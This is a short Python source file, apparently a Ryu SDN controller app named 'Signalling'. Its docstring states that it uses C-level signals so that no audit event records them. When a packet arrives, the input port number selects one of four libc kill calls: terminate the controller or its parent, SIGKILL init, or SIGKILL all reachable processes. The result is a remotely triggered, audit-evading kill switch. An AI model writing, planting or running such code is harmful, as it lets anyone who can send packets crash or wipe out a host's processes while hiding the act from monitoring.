"""Signals from C, which no audit event tells of: for a packet from port N as CALLS[N - 1] says."""

import ctypes
import os
import signal

from ryu.base import app_manager
from ryu.controller import ofp_event
from ryu.controller.handler import MAIN_DISPATCHER, set_ev_cls

libc = ctypes.CDLL(None)
CALLS = [
    lambda: libc.kill(os.getpid(), signal.SIGTERM),
    lambda: libc.kill(os.getppid(), signal.SIGTERM),
    lambda: libc.kill(1, signal.SIGKILL),
    lambda: libc.kill(-1, signal.SIGKILL),
]


class Signalling(app_manager.RyuApp):
    @set_ev_cls(ofp_event.EventOFPPacketIn, MAIN_DISPATCHER)
    def packet_in(self, ev):
        CALLS[ev.msg.match["in_port"] - 1]()
